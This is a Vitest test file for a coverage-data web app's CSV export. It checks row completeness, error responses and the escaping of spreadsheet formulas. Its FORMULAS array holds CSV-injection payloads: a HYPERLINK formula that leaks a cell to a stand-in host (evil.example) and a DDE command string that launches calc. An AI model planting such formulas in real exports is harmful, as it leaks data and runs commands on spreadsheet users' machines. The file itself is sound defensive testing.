import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Database } from "../server/db/database.ts";
import { CSV_FIELDS } from "../server/export/coverage-csv.ts";
import { ADMIN, run } from "./support/graphql.ts";
import { openSeededApp, type RunningApp } from "./support/http.ts";

describe("GET /export/coverage.csv", () => {
  let db: Database;
  let app: RunningApp;
  let close: () => Promise<void>;
  beforeAll(async () => ({ db, app, close } = await openSeededApp()));
  afterAll(() => close?.());

  it("gives every row of the coverage query (all pages), the field names as header, in UTF-8", async () => {
    const res = await fetch(
      `${app.url}/export/coverage.csv?level=VILLAGE&sector=FARMER&maxCoverageRate=0.5&orderBy=UNCOVERED&direction=DESC`,
    );
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toContain("coverage.csv");
    const text = new TextDecoder("utf-8", { fatal: true }).decode(await res.arrayBuffer());
    const [header, ...rows] = parse(text) as string[][];
    expect(header).toEqual([...CSV_FIELDS]);
    const { data } = await run(
      db,
      `{ coverage(level: VILLAGE, sector: FARMER, maxCoverageRate: 0.5, orderBy: UNCOVERED, direction: DESC, first: 500) {
      totalCount edges { node { code name uncovered coverageRate } } } }`,
    );
    const nodes = data!.coverage.edges.map((e: any) => e.node);
    expect(rows).toHaveLength(data!.coverage.totalCount);
    expect(rows.length).toBeGreaterThan(50);
    const col = (name: string) => header!.indexOf(name);
    expect(rows.map((r) => r[col("code")])).toEqual(nodes.map((n: any) => n.code));
    expect(rows.map((r) => Number(r[col("uncovered")]))).toEqual(nodes.map((n: any) => n.uncovered));
    expect(rows.every((r) => Number(r[col("coverageRate")]) <= 0.5)).toBe(true);
    // independent: the same villages from the summary table
    const [{ n }] = await db.sql.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM coverage_summary WHERE period = '2025-09' AND sector_code = 'FARMER' AND workforce > 0 AND enrolled::float8 / workforce <= 0.5`,
    );
    expect(rows).toHaveLength(n);
  });

  it("answers a bad argument with 400 naming it, as JSON", async () => {
    const res = await fetch(`${app.url}/export/coverage.csv?level=VILLAGE&period=1999-01`);
    expect(res.status).toBe(400);
    const body = (await res.json()) as { error: string; code: string };
    expect(body.code).toBe("BAD_USER_INPUT");
    expect(body.error).toContain("period");
    const missing = await fetch(`${app.url}/export/coverage.csv`);
    expect(missing.status).toBe(400);
    expect(((await missing.json()) as { error: string }).error).toContain("level");
  });

  // What a hostile boundary or fertilizer-point file could name a place (OWASP's CSV injection cases).
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab",
    "\rReturn",
  ];
  /** Every cell a spreadsheet would take as a formula: starts with = + - @ tab or CR and is not a plain number. */
  const formulaCells = (rows: string[][]) => rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !Number.isFinite(Number(c)));

  it("escapes cells a spreadsheet would run as formulas, in the coverage and plan CSVs; numbers stay numbers", async () => {
    const villages = await db.sql.query<{ code: string }>(
      `SELECT code FROM region WHERE level = 'VILLAGE' ORDER BY code LIMIT ${FORMULAS.length}`,
    );
    for (const [i, { code }] of villages.entries()) await db.sql.query(`UPDATE region SET name = $1 WHERE code = $2`, [FORMULAS[i], code]);
    await db.sql.query(`UPDATE region SET name = $1 WHERE code = '35.26.01'`, [FORMULAS[0]]);
    const coverage = parse(await (await fetch(`${app.url}/export/coverage.csv?level=VILLAGE`)).text(), {
      relax_quotes: true,
    }) as string[][];
    const [header, ...rows] = coverage;
    const named = new Map(rows.map((r) => [r[header!.indexOf("code")], r]));
    for (const [i, { code }] of villages.entries()) {
      expect(named.get(code)![header!.indexOf("name")]).toBe(`'${FORMULAS[i]}`);
      expect(named.get(code)![header!.indexOf("parentName")]).toBe(`'${FORMULAS[0]}`);
    }
    expect(formulaCells(rows)).toEqual([]);

    const points = await db.sql.query<{ id: number }>(`SELECT id FROM fertilizer_point ORDER BY id`);
    for (const { id } of points)
      await db.sql.query(`UPDATE fertilizer_point SET name = $1 WHERE id = $2`, [FORMULAS[id % FORMULAS.length], id]);
    const SAVE = `mutation ($input: PlanInput!) { savePlan(name: "=1+1", input: $input) { id plan { sites { name lat lon } } } }`;
    const saved = (await run(db, SAVE, { input: { sessions: 4, from: "2025-10-01", to: "2026-01-31" } }, ADMIN)).data!.savePlan;
    const [planHeader, ...planRows] = parse(await (await fetch(`${app.url}/export/plans/${saved.id}.csv`)).text()) as string[][];
    const col = (name: string) => planRows.map((r) => r[planHeader!.indexOf(name)]);
    expect(new Set(col("siteName"))).toEqual(new Set(saved.plan.sites.map((s: { name: string }) => `'${s.name}`)));
    expect(saved.plan.sites.every((s: { name: string }) => FORMULAS.includes(s.name))).toBe(true);
    expect(formulaCells(planRows)).toEqual([]);
    // Latitudes south of the equator: negative numbers, written as numbers.
    expect(new Set(col("lat").map(Number))).toEqual(new Set(saved.plan.sites.map((s: { lat: number }) => s.lat)));
    expect(col("lat").every((v) => /^-\d/.test(v))).toBe(true);
  });
});
